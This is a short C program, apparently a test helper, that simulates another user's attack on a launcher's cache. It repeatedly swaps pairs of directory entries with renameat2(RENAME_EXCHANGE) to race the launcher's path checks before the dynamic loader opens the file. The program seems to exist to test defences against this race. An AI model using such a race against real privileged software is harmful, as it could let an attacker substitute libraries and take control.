/* Another user's attack on the launcher's cache: exchange two directory entries again and
 * again with renameat2(RENAME_EXCHANGE), so that a path checked by the launcher leads
 * elsewhere when the dynamic loader opens it.
 *
 *   attacker A B [C D …]   exchanges A with B, C with D, … in a loop until SIGTERM, then
 *                          prints how many exchanges succeeded and failed. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	if (argc < 3 || argc % 2 == 0) {
		fprintf(stderr, "usage: %s A B [C D ...]\n", argv[0]);
		return 2;
	}
	signal(SIGTERM, on_term);
	unsigned long done = 0, refused = 0;
	printf("started\n");
	fflush(stdout);
	while (!stop) {
		for (int i = 1; i + 1 < argc; i += 2) {
			if (renameat2(AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE) == 0)
				done++;
			else
				refused++;
		}
	}
	printf("exchanged %lu refused %lu\n", done, refused);
	return 0;
}
